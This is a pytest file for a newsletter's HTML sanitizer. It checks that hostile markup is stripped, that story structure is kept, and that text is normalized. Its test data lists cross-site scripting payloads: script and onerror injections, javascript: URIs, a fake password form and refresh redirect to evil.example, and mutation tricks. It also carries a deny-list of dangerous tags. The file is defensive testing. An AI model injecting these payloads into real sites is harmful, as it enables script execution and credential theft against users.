"""Hostile and untidy HTML becomes safe, readable words."""

import pytest

from newsletter.content.sanitizing import (
    bounded,
    clean_html,
    excerpt,
    one_line,
    paragraphs,
    plain_text,
)

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src="x" onerror="alert(1)">',
    '<p onclick="alert(1)" style="position:fixed">x</p>',
    "<style>body{display:none}</style>",
    '<iframe src="https://evil.example/"></iframe>',
    '<object data="x"></object><embed src="x">',
    "<svg><script>alert(1)</script></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    '<form action="https://evil.example/"><input name="password"><button>Log in</button></form>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" jAvAsCrIpT:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:x">x</a>',
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<scr<script>ipt>alert(1)</script>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/"><link rel="stylesheet" href="x">',
    "<template><img src=x onerror=alert(1)></template>",
    "<table background='javascript:alert(1)'><tr><td>x</td></tr></table>",
]


@pytest.mark.parametrize("html", HOSTILE)
def test_it_lets_nothing_through_that_acts(html):
    cleaned = clean_html(html).lower()
    for bad in (
        "<script",
        "<img",
        "<iframe",
        "<svg",
        "<form",
        "<input",
        "<style",
        "<meta",
        "<base",
    ):
        assert bad not in cleaned
    for bad in (" on", "javascript:", "vbscript:", "data:", "style=", "evil.example"):
        assert bad not in cleaned.replace("&lt;", "")


@pytest.mark.parametrize("html", HOSTILE)
def test_plain_text_has_no_markup(html):
    assert "<script" not in plain_text(html)
    assert "<img" not in plain_text(html)


def test_it_keeps_what_a_story_is_made_of():
    story = (
        "<h2>Head</h2><p>One <em>two</em> <strong>three</strong>.</p><ul><li>x</li></ul>"
        "<blockquote><p>Said.</p></blockquote>"
    )
    assert clean_html(story) == story


def test_links_are_marked_as_not_ours_and_made_absolute():
    assert clean_html('<p><a href="/x">y</a></p>', base="https://s.example/a/") == (
        '<p><a href="https://s.example/x" rel="noopener noreferrer nofollow">y</a></p>'
    )


def test_it_takes_out_pictures_with_their_captions_and_what_is_left_empty():
    html = (
        '<p><a href="https://s.example/"><img src="https://s.example/x.jpg"></a></p><p>Text.</p>'
        "<figure><img src='https://s.example/y.jpg'><figcaption>A boat.</figcaption></figure>"
    )
    assert clean_html(html) == "<p>Text.</p>"


def test_a_page_keeps_one_main_heading():
    assert clean_html("<h1>Big</h1>") == "<h2>Big</h2>"


@pytest.mark.parametrize(
    ("html", "clean"),
    [
        ("Loose", "<p>Loose</p>"),
        ("One<br><br>Two", "<p>One</p><p>Two</p>"),
        ("<div>One</div><div>Two</div>", "<p>One</p><p>Two</p>"),
        ("<ul><li>x</li></ul>tail", "<ul><li>x</li></ul><p>tail</p>"),
        ("<pre>a\n\nb</pre>", "<pre>a\n\nb</pre>"),
    ],
)
def test_loose_text_gets_paragraphs(html, clean):
    assert clean_html(html) == clean


@pytest.mark.parametrize("html", [*HOSTILE, "<b>x<p>y</p>z</b>", "<p>a<div>b</p>c</div>"])
def test_cleaning_twice_changes_nothing(html):
    once = clean_html(html)
    assert clean_html(once) == once


def test_plain_text_parts_blocks_and_resolves_entities():
    assert plain_text("<p>Fish &amp; chips</p><p>a<b>b</b> &lt;c&gt;</p>") == "Fish & chips ab <c>"


def test_it_drops_what_a_database_refuses():
    assert plain_text("a\x00b\ud800c") == "ab?c"
    assert clean_html("<p>a\x00b\x07</p>") == "<p>ab</p>"


def test_it_drops_marks_that_turn_a_headline_around():
    assert one_line("pay \u202egnihton\u202c\n now") == "pay gnihton now"


def test_an_excerpt_has_at_most_sixty_words():
    words = " ".join(["word"] * 61)
    assert excerpt(f"<p>{words}</p>") == " ".join(["word"] * 60) + "…"
    assert excerpt("<p>Short, and whole.</p>") == "Short, and whole."
    assert excerpt("<p>one two, three</p>", words=2) == "one two…"


def test_an_excerpt_of_a_script_without_spaces_is_cut_by_length():
    assert len(excerpt("渡" * 5000)) <= 60 * 9 + 1


def test_lines_of_plain_text_become_escaped_paragraphs():
    assert paragraphs("a <b>\nc\n\n\nd") == "<p>a &lt;b&gt; c</p><p>d</p>"


def test_it_reads_no_more_of_endless_tags_than_a_story_has():
    assert "x" not in clean_html("<p>a</p>" + "<b>" * 10_000 + "x")
    assert plain_text("<p>a</p>" + "<div>" * 1_000_000 + "x") == "a"
    assert len(bounded("x" * 300_000)) == 200_000
